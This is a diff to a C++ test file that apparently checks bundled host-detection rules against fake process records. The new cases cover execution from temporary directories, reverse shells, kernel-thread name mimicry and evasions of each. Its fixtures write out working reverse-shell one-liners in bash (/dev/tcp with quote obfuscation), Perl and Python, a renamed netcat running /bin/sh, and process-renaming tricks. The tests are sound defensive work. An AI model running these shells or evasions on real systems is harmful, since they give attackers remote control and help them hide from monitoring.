@@ -88,10 +88,20 @@ std::vector<ProcessRecord> ordinary_host() {
   };
 }
 
+ProcessRecord in_dir(ProcessRecord r, std::string cwd) {
+  r.cwd = std::move(cwd);
+  return r;
+}
+
 struct Case {
   std::vector<ProcessRecord> matching;
   std::vector<ProcessRecord> not_matching;
   std::vector<osl::proc::OpenSocket> sockets;  // process_open_sockets of the snapshot
+  // Exec events stored a second ago, of processes gone before the scan or
+  // changed since (the snapshot may hold the same pid under another name
+  // or command line): the rule must find the first and not the second.
+  std::vector<ProcessRecord> matching_execs;
+  std::vector<ProcessRecord> other_execs;
 };
 
 std::map<std::string, Case> cases() {
@@ -101,8 +111,35 @@ std::map<std::string, Case> cases() {
       {proc(1001, "fine", "/usr/bin/fine")},
   };
   c["exec-from-tmp"] = {
-      {proc(1000, "x", "/tmp/x"), proc(1001, "y", "/var/tmp/.cache/y"), proc(1002, "z", "/dev/shm/z")},
-      {proc(1003, "tmp", "/usr/bin/tmp"), proc(1004, "x", "/srv/tmp/x")},
+      {proc(1000, "x", "/tmp/x"), proc(1001, "y", "/var/tmp/.cache/y"), proc(1002, "z", "/dev/shm/z"),
+       proc(1005, "x", "/run/lock/x")},
+      {proc(1003, "tmp", "/usr/bin/tmp"), proc(1004, "x", "/srv/tmp/x"), proc(1006, "y", "/var/tmpfiles/y"),
+       proc(1007, "z", "/.tmp/z")},
+      {},
+      // Paths as the kernel was given them (probe 14): ways to /tmp that do
+      // not start with /tmp/, runs through an fd, interpreters given a file
+      // in a temporary directory.
+      {proc(1010, "sl", "//tmp/p14/atk/sl"), proc(1011, "sl", "/tmp/./p14//sl"),
+       proc(1012, "sl", "/var//./tmp/sl"), proc(1013, "sl", "/../tmp/sl"),
+       in_dir(proc(1014, "sl", "./sl"), "/tmp/x"), in_dir(proc(1015, "sl", "/proc/self/cwd/sl"), "/tmp/x"),
+       proc(1016, "3", "/dev/fd/3"), proc(1017, "sleep", "/proc/4242/fd/5"),
+       proc(1018, "5", "/proc/self/task/1018/fd/5"), proc(1019, "x", "/var/lock/x"),
+       proc(1020, "ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            "/lib64/ld-linux-x86-64.so.2 /tmp/x"),
+       proc(1021, "sh", "/usr/bin/dash", "sh /tmp/x.sh"),
+       proc(1022, "python3", "/usr/bin/python3.11", "python3 -u //var/tmp/.x/a.py"),
+       in_dir(proc(1023, "perl", "/usr/bin/perl", "perl ./a.pl"), "/dev/shm"),
+       in_dir(proc(1024, "bash", "/usr/bin/bash", "bash x.sh"), "/tmp/w"),
+       proc(1025, "rsyslogd", "/usr/bin/bash", "rsyslogd /run/lock/.s")},
+      {in_dir(proc(1030, "sh", "/usr/bin/dash", "sh -c id"), "/tmp"),
+       in_dir(proc(1031, "python3", "/usr/bin/python3.11", "python3 -m http.server 8000"), "/tmp"),
+       in_dir(proc(1032, "vim", "/usr/bin/vim.basic", "vim /tmp/notes.txt"), "/tmp"),
+       in_dir(proc(1033, "ls", "./ls", "./ls -l"), "/usr/bin"),
+       in_dir(proc(1034, "bash", "/usr/bin/bash", "bash /usr/local/bin/backup.sh"), "/tmp"),
+       in_dir(proc(1035, "bash", "/usr/bin/bash", "bash -i"), "/tmp"),
+       proc(1036, "runc", "/proc/self/exe", "runc init"),
+       proc(1037, "python3", "/usr/bin/python3.11", "python3 /opt/app/tmp/server.py"),
+       proc(1038, "perl", "/usr/bin/perl", "perl -e print 1 /tmp/x")},
   };
   c["webserver-shell"] = {
       {proc(1000, "sh", "/usr/bin/dash", "sh -c id", 601),
@@ -151,17 +188,45 @@ std::map<std::string, Case> cases() {
        proc(1012, "socat", "/usr/bin/socat", "socat - UNIX-CONNECT:/run/app.sock"),
        proc(1013, "python3", "/usr/bin/python3.11", "python3 /opt/socket_server.py")},
   };
+  // Probe 14: quotes and backslashes inside /dev/tcp/, a netcat renamed.
+  c["reverse-shell"].matching.push_back(
+      proc(1014, "bash", "/usr/bin/bash",
+           "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001; while read -r -u 5 l; do eval \"$l\" >&5 2>&5; done"));
+  c["reverse-shell"].matching.push_back(proc(1015, "sh", "/usr/bin/dash", "sh -c cat </d'e'v/tc\\p/10.0.0.1/80"));
+  c["reverse-shell"].matching.push_back(
+      proc(1016, "rsyslogd", "/usr/bin/nc.traditional", "rsyslogd -e /bin/sh 10.0.0.1 4444"));
+  c["reverse-shell"].not_matching.push_back(proc(1017, "bash", "/usr/bin/bash", "bash -c echo \"/dev/tcp\""));
+  c["reverse-shell"].not_matching.push_back(proc(1018, "cat", "/usr/bin/cat", "cat /opt/doc/dev/tcpdump.txt"));
+  // Perl that set $0 after it started: the snapshot holds its new words,
+  // its exec event the one-liner it was started with.
+  c["reverse-shell"].not_matching.push_back(proc(1020, "cron", "/usr/bin/perl", "/usr/sbin/cron -f"));
+  c["reverse-shell"].matching_execs = {
+      proc(1020, "perl", "/usr/bin/perl",
+           "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(47001,"
+           "inet_aton(\"127.0.0.1\")));open(STDIN,\"<&S\");exec(\"/bin/sh -i\");"),
+      proc(1021, "python3", "/usr/bin/python3.11",
+           "python3 -c import socket,os;s=socket.create_connection((\"127.0.0.1\",47001));"
+           "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/bash\",[\"bash\"])"),
+      proc(1022, "bash", "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001")};
+  c["reverse-shell"].other_execs = {proc(1023, "bash", "/usr/bin/bash", "bash -c printf rsyslogd > /proc/$$/comm"),
+                                    proc(1024, "nc", "/usr/bin/nc.openbsd", "nc -zv 10.0.0.1 22")};
   c["reverse-shell-socket"] = {
       // A reverse shell on all three fds (one row), a UDP one, one over
       // IPv6 with only stderr on the socket, and dash via busybox.
+      // Probe 14: connected on fd 3 or 5 only (exec 5<>/dev/tcp/...; read -u 5),
+      // and bash that wrote "rsyslogd" into /proc/self/comm (its path stays).
       {proc(1000, "bash", "/usr/bin/bash", "bash -i", 1100), proc(1001, "sh", "/usr/bin/dash", "sh"),
-       proc(1002, "zsh", "/usr/bin/zsh", "zsh"), proc(1003, "busybox", "/bin/busybox", "sh -i")},
+       proc(1002, "zsh", "/usr/bin/zsh", "zsh"), proc(1003, "busybox", "/bin/busybox", "sh -i"),
+       proc(1005, "bash", "/usr/bin/bash", "bash"), proc(1008, "rsyslogd", "/usr/bin/bash", "rsyslogd"),
+       proc(1009, "bash", "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001")},
       {
           proc(1004, "bash", "/usr/bin/bash", "bash"),      // a listening socket on fd 0
-          proc(1005, "bash", "/usr/bin/bash", "bash"),      // connected, but on fd 3
           proc(1006, "sh", "/usr/bin/dash", "sh"),          // a unix socket (systemd's stdout stream)
           proc(1100, "nc", "/usr/bin/nc", "nc 10.0.0.1 4444"),  // connected on fd 0, but no shell
           proc(1007, "dash", "/usr/bin/dash", "dash"),      // TIME_WAIT leftovers have no fd; UDP unconnected
+          proc(1010, "bash", "/usr/bin/bash", "bash"),      // socket-activated: a listening socket on fd 3
+          proc(1011, "bash", "/usr/bin/bash", "-bash"),     // a login shell beside ssh-agent's unix socket
+          proc(1012, "python3", "/usr/bin/python3.11", "python3 /opt/app/server.py"),  // a client, no shell
       },
       {inet_socket_row(1000, 0, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
        inet_socket_row(1000, 1, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
@@ -174,15 +239,23 @@ std::map<std::string, Case> cases() {
        unix_socket_row(1006, 1, ""),
        unix_socket_row(1006, 2, "/run/systemd/journal/stdout"),
        inet_socket_row(1100, 0, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
-       inet_socket_row(1007, 0, 2, 17, "0.0.0.0", 0, "")},
+       inet_socket_row(1007, 0, 2, 17, "0.0.0.0", 0, ""),
+       inet_socket_row(1008, 0, 2, 6, "127.0.0.1", 47001, "ESTABLISHED"),
+       inet_socket_row(1009, 5, 2, 6, "127.0.0.1", 47001, "ESTABLISHED"),
+       inet_socket_row(1010, 3, 10, 6, "::", 0, "LISTEN"),
+       unix_socket_row(1011, 3, "/tmp/ssh-XXXX/agent.501"),
+       inet_socket_row(1012, 7, 2, 6, "10.0.0.5", 5432, "ESTABLISHED")},
   };
   c["kernel-thread-mimic"] = {
       {proc(1000, "kworker/0:1", "/usr/local/bin/kw", "kworker/0:1"),
        proc(1001, "kworkerds", "/usr/bin/kworkerds", "/usr/bin/kworkerds"),
        proc(1002, "bash", "/usr/bin/bash", "[kthreadd]"), proc(1003, "migration/3", "/opt/m", "migration/3"),
-       proc(1004, "rcu_gp", "/opt/r", "rcu_gp")},
+       proc(1004, "rcu_gp", "/opt/r", "rcu_gp"),
+       // Probe 14: one argument after the bracketed argv[0].
+       proc(1008, "sleep", "/usr/bin/sleep", "[kworker/0:1] 30")},
       {kernel_thread(1005, "kworker/u8:2"), proc(1006, "kded5", "/usr/bin/kded5", "kded5"),
-       proc(1007, "echo", "/usr/bin/echo", "echo [x]")},
+       proc(1007, "echo", "/usr/bin/echo", "echo [x]"), proc(1009, "echo", "/usr/bin/echo", "echo [x] y"),
+       proc(1010, "[", "/usr/bin/[", "[ -f /etc/x ]"), proc(1011, "sort", "/usr/bin/sort", "sort -k [1] x")},
   };
   return c;
 }
@@ -239,10 +312,37 @@ TEST_F(BundledRules, EachFindsExactlyItsProcesses) {
       expected.insert(p.pid);
     }
     for (const auto& p : it->second.not_matching) snapshot.push_back(p);
-    ASSERT_TRUE(store_->apply_snapshot(snapshot));
-    ASSERT_TRUE(store_->replace_sockets(it->second.sockets));
+    // Each rule over a store of its own: the exec events of one case are
+    // not another's. The ordinary host's processes were exec'd a second
+    // ago too (what a rule over exec events reads of them); the cases'
+    // execs ran and stopped a second ago, and each matching one also ten
+    // minutes ago under another pid: a rule reads two minutes of events,
+    // so that one is not raised. The snapshot comes last: `processes`
+    // holds it (an exec event alone would have put its process there).
+    TempDir dir;
+    auto store = Store::open({.path = dir / "d.db"});
+    ASSERT_TRUE(store) << store.error();
+    auto engine = QueryEngine::open(dir / "d.db");
+    ASSERT_TRUE(engine) << engine.error();
+    const std::int64_t now = ::time(nullptr);
+    std::vector<ProcessEvent> events;
+    const auto ran = [&](const ProcessRecord& p, std::int64_t at) {
+      events.push_back({EventKind::exec, EventSource::ebpf, at, p});
+      events.push_back({EventKind::stop, EventSource::ebpf, at, p});
+    };
+    for (const auto& p : ordinary_host())
+      if (!p.path.empty()) events.push_back({EventKind::exec, EventSource::ebpf, now - 1, p});
+    for (const auto& p : it->second.other_execs) ran(p, now - 1);
+    for (const auto& p : it->second.matching_execs) {
+      ran(p, now - 1);
+      ran(with(p, [](auto& r) { r.pid += 50000; }), now - 600);
+      expected.insert(p.pid);
+    }
+    ASSERT_TRUE((*store)->append_events(events));
+    ASSERT_TRUE((*store)->apply_snapshot(snapshot));
+    ASSERT_TRUE((*store)->replace_sockets(it->second.sockets));
 
-    auto result = engine_->run(rule.query);
+    auto result = (*engine)->run(rule.query);
     ASSERT_TRUE(result) << result.error();
     const auto pid_col = std::ranges::find(result->columns, "pid") - result->columns.begin();
     std::set<std::int64_t> found;
